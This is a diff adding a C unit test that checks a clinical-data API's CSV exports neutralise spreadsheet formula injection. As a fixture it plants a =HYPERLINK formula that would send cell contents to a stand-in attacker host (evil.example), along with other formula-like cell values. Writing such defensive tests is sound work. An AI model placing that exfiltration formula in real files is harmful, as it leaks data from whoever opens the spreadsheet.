@@ -150,6 +150,155 @@ START_TEST(test_bad_format_or_limit_is_400)
 }
 END_TEST
 
+/* --- CSV that is safe to open ---------------------------------------------- */
+
+/* Calls fn on each cell of csv (RFC 4180: quotes removed, doubled quotes
+ * undone), with its row and column. */
+static void each_cell(const char *csv, void (*fn)(const char *cell, int row, int col, void *cls),
+		      void *cls)
+{
+	char *cell = malloc(strlen(csv) + 1);
+	int row = 0, col = 0;
+	const char *p = csv;
+	while (*p) {
+		size_t n = 0;
+		if (*p == '"') {
+			for (p++; *p && !(p[0] == '"' && p[1] != '"'); p++) {
+				if (p[0] == '"')
+					p++;
+				cell[n++] = *p;
+			}
+			p += *p == '"';
+		} else {
+			while (*p && *p != ',' && *p != '\r')
+				cell[n++] = *p++;
+		}
+		cell[n] = '\0';
+		fn(cell, row, col, cls);
+		if (*p == ',') {
+			p++, col++;
+		} else if (*p == '\r') {
+			p += 2, row++, col = 0;
+		}
+	}
+	free(cell);
+}
+
+/* No cell a spreadsheet would run: one beginning with = + - @ tab or CR is
+ * a number, or it is not there. */
+static void assert_inert(const char *cell, int row, int col, void *cls)
+{
+	const char *where = cls;
+	if (!cell[0] || !strchr("=+-@\t\r", cell[0]))
+		return;
+	char *end;
+	strtod(cell, &end);
+	ck_assert_msg(*end == '\0', "%s: row %d column %d runs as a formula: %s", where, row, col,
+		      cell);
+}
+
+struct find {
+	const char *want;
+	int found;
+};
+
+static void find_cell(const char *cell, int row, int col, void *cls)
+{
+	(void)row, (void)col;
+	struct find *f = cls;
+	f->found += strcmp(cell, f->want) == 0;
+}
+
+/* GETs path as CSV (Accept: text/csv, or ?format=csv when it has a query)
+ * and asserts every cell inert and Vary: Accept; returns the answer. */
+static struct resp *csv_get(const char *path, bool by_accept)
+{
+	static const char *const accept_csv[] = {"Accept: text/csv", NULL};
+	struct resp *r = http("GET", path, by_accept ? accept_csv : NULL, NULL, 0);
+	ck_assert_msg(r->status == 200, "%s: %ld %s", path, r->status, r->body);
+	ck_assert_msg(strncmp(resp_header(r, "Content-Type"), "text/csv", 8) == 0, "%s: %s", path,
+		      resp_header(r, "Content-Type"));
+	ck_assert_msg(resp_varies_on(r, "Accept"), "%s: no Vary: Accept", path);
+	each_cell(r->body, assert_inert, (void *)path);
+	return r;
+}
+
+static void assert_has_cell(const struct resp *r, const char *want)
+{
+	struct find f = {want, 0};
+	each_cell(r->body, find_cell, &f);
+	ck_assert_msg(f.found > 0, "no cell %s in:\n%s", want, r->body);
+}
+
+START_TEST(test_formula_text_is_neutralised_in_every_csv)
+{
+	const char *cause = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+	json_t *extra = json_pack("{s:s, s:s, s:s, s:s}", "code", "-2-3", "vital_status", "dead",
+				  "died_on", "1985-06-01", "death_cause", cause);
+	char *text = json_dumps(extra, JSON_COMPACT);
+	int64_t p = make_patient(text);
+	free(text);
+	json_decref(extra);
+	int64_t c = make_course(p, NULL);
+	make_outcome(c, "{\"response\":\"CR\"}");
+	static const char *const terms[] = {"@SUM(1+1)", "+1 cmd", "-1-1", "=1,2", "Fever"};
+	for (size_t i = 0; i < 5; i++) {
+		char body[128];
+		snprintf(body, sizeof body, "{\"term\":\"%s\",\"grade\":%d%s}", terms[i],
+			 i == 0 ? 5 : 3, i == 0 ? ",\"outcome\":\"fatal\"" : "");
+		make_toxicity(c, body);
+	}
+	char path[160];
+	/* the lists, a page and the whole collection, JSON order */
+	snprintf(path, sizeof path, "/patients?code=-2-3&format=csv");
+	struct resp *r = csv_get(path, false);
+	assert_has_cell(r, "'-2-3");
+	char want[160];
+	snprintf(want, sizeof want, "'%s", cause);
+	assert_has_cell(r, want);
+	/* the id and the numbers stay numbers */
+	snprintf(want, sizeof want, "%lld", (long long)p);
+	assert_has_cell(r, want);
+	resp_free(r);
+	snprintf(path, sizeof path, "/patients/%lld/toxicities", (long long)p);
+	r = csv_get(path, true);
+	assert_has_cell(r, "'@SUM(1+1)");
+	assert_has_cell(r, "'+1 cmd");
+	assert_has_cell(r, "'-1-1");
+	assert_has_cell(r, "'=1,2");
+	assert_has_cell(r, "Fever");
+	resp_free(r);
+	static const char *const lists[] = {"/patients?limit=all", "/courses?limit=all",
+					    "/outcomes?limit=all", "/toxicities?limit=all",
+					    "/patients", "/toxicities?min_grade=3", NULL};
+	for (const char *const *l = lists; *l; l++) {
+		r = csv_get(*l, true);
+		if (strstr(*l, "toxicities"))
+			assert_has_cell(r, "'@SUM(1+1)");
+		if (strcmp(*l, "/patients?limit=all") == 0)
+			assert_has_cell(r, "'-2-3");
+		resp_free(r);
+	}
+	snprintf(path, sizeof path, "/patients/%lld/courses", (long long)p);
+	resp_free(csv_get(path, true));
+	snprintf(path, sizeof path, "/patients/%lld/outcomes", (long long)p);
+	resp_free(csv_get(path, true));
+	/* every statistic */
+	static const char *const stats[] = {"/stats/summary", "/stats/response",
+					    "/stats/mortality", "/stats/toxicity?min_grade=1",
+					    "/stats/survival", "/stats/durable-response",
+					    "/stats/toxicity?unit=course&group_by=regimen", NULL};
+	for (const char *const *st = stats; *st; st++) {
+		r = csv_get(*st, true);
+		if (strstr(*st, "toxicity"))
+			assert_has_cell(r, "'@SUM(1+1)");
+		resp_free(r);
+		snprintf(path, sizeof path, "%s%sformat=csv", *st, strchr(*st, '?') ? "&" : "?");
+		resp_free(csv_get(path, false));
+	}
+}
+END_TEST
+
 int main(void)
 {
 	TCase *tc;
@@ -158,5 +307,6 @@ int main(void)
 	tcase_add_test(tc, test_csv_pages_like_json_with_next_in_link);
 	tcase_add_test(tc, test_limit_all_streams_every_record_once);
 	tcase_add_test(tc, test_bad_format_or_limit_is_400);
+	tcase_add_test(tc, test_formula_text_is_neutralised_in_every_csv);
 	return run_suite(s);
 }
